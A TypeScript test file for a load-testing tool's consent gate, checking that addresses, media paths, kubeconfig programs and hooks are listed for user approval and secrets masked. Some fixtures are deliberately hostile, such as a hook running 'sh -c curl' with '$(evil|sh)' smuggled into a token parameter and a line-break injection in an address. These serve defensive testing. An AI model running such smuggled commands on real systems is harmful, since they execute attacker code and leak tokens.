import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { addressesOf } from '../../domain/consent/consentText';
import type { NodeSettings } from '../../domain/model/nodeSettings';
import type { Plan } from '../../domain/model/plan';
import { applySet, parsePlan } from '../../domain/plan/planYaml';
import { SecretMask } from '../../domain/secrets/secretMask';
import { samplePlan } from '../../../tests/support/samplePlan';
import type { FleetNode } from '../fleet/node';
import { KnownAddresses } from './knownAddresses';
import { permissionOf, PlanGate, type ConsentOptions } from './planGate';

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'fullhouse-gate-'));
});
afterEach(() => {
  rmSync(folder, { recursive: true, force: true });
  vi.unstubAllEnvs();
});

const builtIn: readonly NodeSettings[] = [{ server: 'lab' }, { tester: 'local' }];
const knownAs = (path?: string): KnownAddresses =>
  new KnownAddresses(path, (sentence) => {
    throw new Error(sentence);
  });
const noVariables: Readonly<Record<string, string>> = {};
function gateOf(
  options: ConsentOptions = {},
  { own = builtIn, known = knownAs(), mask = new SecretMask(), variables = noVariables } = {},
): PlanGate {
  const nodes = own.map((settings) => ({ settings }) as FleetNode);
  const fleet = { nodes, writtenOf: ({ settings }: FleetNode) => settings };
  return new PlanGate(
    fleet,
    { kinds: () => [], mask, value: ({ name }: { readonly name: string }) => variables[name] },
    known,
    options,
  );
}

const srs: NodeSettings = { server: 'srs', url: 'http://10.9.9.9:1985', gcLog: '/gc.log' };
const planAt = (origin: NodeSettings): Plan =>
  samplePlan({}, { nodes: { origin, audience: { tester: 'local' } }, publish: [] });

describe('the questions of shipped plans', () => {
  const root = join(__dirname, '..', '..', '..');
  const shipped = ['plans', 'assets/presets'].flatMap((name) =>
    readdirSync(join(root, name))
      .filter((file) => file.endsWith('.yaml'))
      .map((file) => join(root, name, file)),
  );

  it.each(shipped)('%s asks for nothing but its addresses, and for none of them when they are typed', (file) => {
    const yaml = readFileSync(file, 'utf8');
    const { plan } = parsePlan(yaml);
    const { newNodes } = gateOf({ withoutFleet: true }).consentOf(plan);
    const remote = Object.entries(plan.nodes).filter(
      ([, node]) =>
        !builtIn.some((own) =>
          'server' in own ? 'server' in node && node.server === 'lab' : 'tester' in node && node.tester === 'local',
        ),
    );
    expect(newNodes.map(({ name }) => name)).toEqual(remote.map(([name]) => name));
    const sets = remote.flatMap(([name, settings]) =>
      Object.entries(settings).flatMap(([key, value]) =>
        typeof value === 'string' && !['server', 'tester', 'apiSecret'].includes(key)
          ? [`nodes.${name}.${key}=${value}`]
          : [],
      ),
    );
    const typed = sets.map((set) => set.slice(0, set.indexOf('=')));
    const entered = applySet(yaml, sets).plan;
    expect(gateOf({ withoutFleet: true, typed }).consentOf(entered)).toEqual({ items: [], newNodes: [] });
    expect(gateOf({}, { own: Object.values(plan.nodes) }).consentOf(plan)).toEqual({ items: [], newNodes: [] });
  });
});

describe('addresses', () => {
  it('that the person confirmed are known on the command line, one a line, in a private file', async () => {
    const path = join(folder, 'config', 'known_addresses');
    const { newNodes } = gateOf({ withoutFleet: true }).consentOf(planAt(srs));
    const confirmed = knownAs(path);
    confirmed.add(addressesOf(newNodes));
    await confirmed.whenSaved();
    expect(readFileSync(path, 'utf8')).toBe('http://10.9.9.9:1985\n');
    expect(statSync(path).mode & 0o777).toBe(0o600);
    const gate = gateOf({ withoutFleet: true }, { known: knownAs(path) });
    expect(gate.consentOf(planAt(srs)).newNodes).toEqual([]);
    // Other ports and users of the host are other addresses.
    const others = { ...srs, url: 'http://10.9.9.9:1986', ssh: 'root@10.9.9.9' };
    expect(gate.consentOf(planAt(others)).newNodes[0]?.addresses).toEqual([
      'http://10.9.9.9:1986',
      'ssh://root@10.9.9.9',
    ]);
  });

  it('are not made known by a start without a question', () => {
    const known = knownAs();
    const permission = permissionOf({ allowHooks: true, allowNodes: ['http://10.9.9.9:1985'] });
    expect(gateOf({ withoutFleet: true }, { known }).allow(planAt(srs), permission).plan).toEqual(planAt(srs));
    expect(known.has('http://10.9.9.9:1985')).toBe(false);
  });

  it('of nodes need a node of the fleet beside a fleet, also those of this machine', () => {
    const known = knownAs();
    const gate = gateOf({}, { known });
    const here = planAt({ server: 'generic', whep: 'http://127.0.0.1:9/{stream}' });
    gate.allow(here, permissionOf({ allowNodes: ['http://127.0.0.1:9'] }));
    expect(gate.consentOf(here).newNodes).toEqual([{ name: 'origin', addresses: ['http://127.0.0.1:9'] }]);
    // What is no node is asked for once.
    const relayed = samplePlan({ turn: { share: 10, url: 'turn:10.9.9.9' } });
    expect(() => gate.allow(relayed, permissionOf({}))).toThrow('TURN server (turn:10.9.9.9:3478)');
    gate.allow(relayed, permissionOf({ allowNodes: ['turn:10.9.9.9:3478'] }));
    expect(gate.consentOf(relayed)).toEqual({ items: [], newNodes: [] });
    // It was allowed without secrets.
    const withSecret = samplePlan({ turn: { share: 10, url: 'turn:10.9.9.9', password: '$secret:other' } });
    expect(gate.consentOf(withSecret).items).toMatchObject([{ kind: 'secret', path: 'pull.turn.password' }]);
  });

  it('that were typed for one node are not those of a node with a dot in its name', () => {
    const typed = ['nodes.origin.url'];
    const plan: Plan = {
      ...planAt({ server: 'srs', url: 'http://10.9.9.9:1985' }),
      nodes: {
        origin: { server: 'srs', url: 'http://10.9.9.9:1985' },
        'origin.url': { tester: 'ssh', ssh: 'u@10.9.9.8', keyFile: '/home/u/key' },
      },
    };
    const { items, newNodes } = gateOf({ withoutFleet: true, typed }).consentOf(plan);
    expect(items.map(({ path }) => path)).toEqual(['nodes.origin.url.keyFile']);
    expect(newNodes.flatMap(({ addresses }) => addresses)).toContain('ssh://u@10.9.9.8');
  });

  it('with line ends are allowed once only, and the oldest are forgotten', async () => {
    const path = join(folder, 'known_addresses');
    const known = knownAs(path);
    known.add(['a\nssh://evil', ...Array.from({ length: 5001 }, (_, place) => `http://h:${place}`)]);
    await known.whenSaved();
    const lines = readFileSync(path, 'utf8').trim().split('\n');
    expect([lines.length, lines[0]]).toEqual([5000, 'http://h:1']);
  });

  it('of an inventory are listed, and an endless one is not read', () => {
    const inventory = join(folder, 'hosts');
    writeFileSync(inventory, 'load-1\nqa@load-2:2222\n');
    const plan = (path: string): Plan => ({
      ...samplePlan(),
      nodes: { origin: { server: 'lab' }, audience: { tester: 'ssh', inventory: path, user: 'u' } },
    });
    expect(gateOf().consentOf(plan(inventory)).newNodes).toEqual([
      { name: 'audience', addresses: ['ssh://u@load-1', 'ssh://qa@load-2:2222'] },
    ]);
    const { items, newNodes } = gateOf().consentOf(plan('/dev/zero'));
    expect([items.map(({ path }) => path), newNodes]).toEqual([['nodes.audience.inventory'], []]);
  });
});

describe('family files', () => {
  const asked = (text: string): readonly string[] => {
    const own = join(folder, 'plan');
    mkdirSync(own, { recursive: true });
    const familyFile = join(own, 'edge.yaml');
    writeFileSync(familyFile, `title: Edge\nrecognise: [{ get: "http://{api}/" }]\n${text}`);
    const edge = { server: 'file', familyFile, url: 'http://127.0.0.1:8000' } as const;
    const plan = samplePlan({ from: 'edge' }, { nodes: { edge, audience: { tester: 'local' } }, publish: [] });
    return gateOf({ withoutFleet: true, planFolder: own })
      .consentOf(plan)
      .items.map(({ text: line }) => line);
  };

  it('beside the plan are read, and only those that reach more than the address of their node are listed', () => {
    expect(asked('ports: { api: 8000 }\nrequests: { a: { get: "http://{api}/a" } }\n')).toEqual([]);
    expect(asked('ports: { api: 8000, other: 2375 }\n')).toEqual([
      expect.stringMatching(/^send to the host of "edge" what ".*edge\.yaml" says: port 2375 \(other\)$/),
    ]);
    expect(asked('ports: { api: 8000 }\nrequests: { a: { get: "http://{api}/a", json: { x: y } } }\n')).toEqual([
      expect.stringMatching(/says: POST \/a on port 8000$/),
    ]);
    // One that can't be used is refused where the node is made.
    expect(asked('ports: 1\n')).toEqual([]);
  });
});

describe('media files', () => {
  const publishing = (source: string): Plan => samplePlan({}, { publish: [{ stream: 'cam', node: 'origin', source }] });
  const asked = (source: string, planFolder?: string): number =>
    gateOf({ withoutFleet: true, planFolder }).consentOf(publishing(source)).items.length;

  it('in the folder of the plan come with it, and no others', () => {
    const own = join(folder, 'plan');
    mkdirSync(join(own, 'media'), { recursive: true });
    writeFileSync(join(own, 'media', 'clip.mp4'), '');
    writeFileSync(join(folder, 'private.mp4'), '');
    symlinkSync(join(folder, 'private.mp4'), join(own, 'link.mp4'));
    expect(asked(join(own, 'media', 'clip.mp4'), own)).toBe(0);
    expect(asked(join(own, 'media', 'clip.mp4'))).toBe(1);
    for (const other of ['link.mp4', '../private.mp4', 'absent.mp4', 'media/..'])
      expect(asked(join(own, other), own)).toBe(1);
    // A plan in the home folder does not come with all that is there.
    vi.stubEnv('HOME', own);
    expect(asked(join(own, 'media', 'clip.mp4'), own)).toBe(1);
    expect(asked(join(own, 'media', 'clip.mp4'), join(own, 'media'))).toBe(0);
    // Nor does one among the downloads, or in a folder in which others write.
    vi.stubEnv('HOME', folder);
    const downloads = join(folder, 'Downloads');
    mkdirSync(downloads);
    writeFileSync(join(downloads, 'clip.mp4'), '');
    expect(asked(join(downloads, 'clip.mp4'), downloads)).toBe(1);
    if (process.platform !== 'win32') chmodSync(own, 0o777);
    expect(asked(join(own, 'media', 'clip.mp4'), own)).toBe(process.platform === 'win32' ? 0 : 1);
  });

  it('come with the audio beside them only if that is in the folder, too', () => {
    const own = join(folder, 'plan');
    mkdirSync(own);
    for (const name of ['a.h264', 'b.h264', 'b.ogg']) writeFileSync(join(own, name), '');
    writeFileSync(join(folder, 'private'), '');
    symlinkSync(join(folder, 'private'), join(own, 'a.ogg'));
    expect([asked(join(own, 'a.h264'), own), asked(join(own, 'b.h264'), own)]).toEqual([1, 0]);
  });
});

it('a kubeconfig whose path is a reference is read where it leads', () => {
  const config = {
    ...{ 'current-context': 'here', clusters: [{ name: 'c', cluster: { server: 'https://10.9.9.9:6443' } }] },
    contexts: [{ name: 'here', context: { cluster: 'c', user: 'u' } }],
    users: [{ name: 'u', user: { exec: { command: 'evil' } } }],
  };
  writeFileSync(join(folder, 'kc.yaml'), JSON.stringify(config));
  const load: NodeSettings = { tester: 'kubernetes', replicas: 1, kubeconfig: '$env:HERE/kc.yaml' };
  const plan: Plan = { ...samplePlan(), nodes: { origin: { server: 'lab' }, audience: load } };
  const { items } = gateOf({}, { variables: { HERE: folder } }).consentOf(plan);
  expect(items.find(({ kind }) => kind === 'program')?.text).toMatch(/^run "evil" on this machine, to log in to/);
});

it('a variable of the program of a kubeconfig is listed without secrets', () => {
  const exec = { command: 'aws', args: ['x'], env: [{ name: 'KEY', value: 'Planted-Secret-1' }] };
  const config = {
    ...{ 'current-context': 'here', clusters: [{ name: 'c', cluster: { server: 'https://10.9.9.9:6443' } }] },
    contexts: [{ name: 'here', context: { cluster: 'c', user: 'u' } }],
    users: [{ name: 'u', user: { exec } }],
  };
  writeFileSync(join(folder, 'kc.yaml'), JSON.stringify(config));
  const load: NodeSettings = { tester: 'kubernetes', replicas: 1, kubeconfig: join(folder, 'kc.yaml') };
  const plan: Plan = { ...samplePlan(), nodes: { origin: { server: 'lab' }, audience: load } };
  const mask = new SecretMask();
  mask.add('Planted-Secret-1');
  const { items } = gateOf({}, { mask }).consentOf(plan);
  expect(items.find(({ kind }) => kind === 'program')?.text).toMatch(/^run KEY="•••" "aws" "x" on this machine/);
});

it('a program is listed with all that it does, also where that looks like a secret', () => {
  const run = ['sh', '-c', 'curl "https://h/?token=$(evil|sh)"'];
  const mask = new SecretMask();
  mask.add('$(evil|sh)');
  const { items } = gateOf({}, { mask }).consentOf(samplePlan({}, { hooks: [{ at: 'end', run: run as never }] }));
  expect(items.map(({ text }) => text)).toEqual([
    'at end: run "sh" "-c" "curl \\"https://h/?token=$(evil|sh)\\"" on this machine',
  ]);
});

it('a permission for some texts is for no others, and secrets are in none but those of programs', () => {
  const mask = new SecretMask();
  mask.add('Planted-Secret-1');
  const gate = gateOf({}, { mask });
  const hook = (word: string): Plan => samplePlan({}, { hooks: [{ at: 'end', post: `http://h/${word}` }] });
  const texts = gate.consentOf(hook('Planted-Secret-1')).items.map(({ text }) => text);
  expect(texts).toEqual([`at end: send the run's figures to http://h/•••`]);
  const permission = { items: new Set(texts), addresses: new Set<string>() };
  expect([...gate.allow(hook('Planted-Secret-1'), permission).texts]).toEqual(texts);
  expect(() => gate.allow(hook('other'), permission)).toThrow('figures to http://h/other');
});
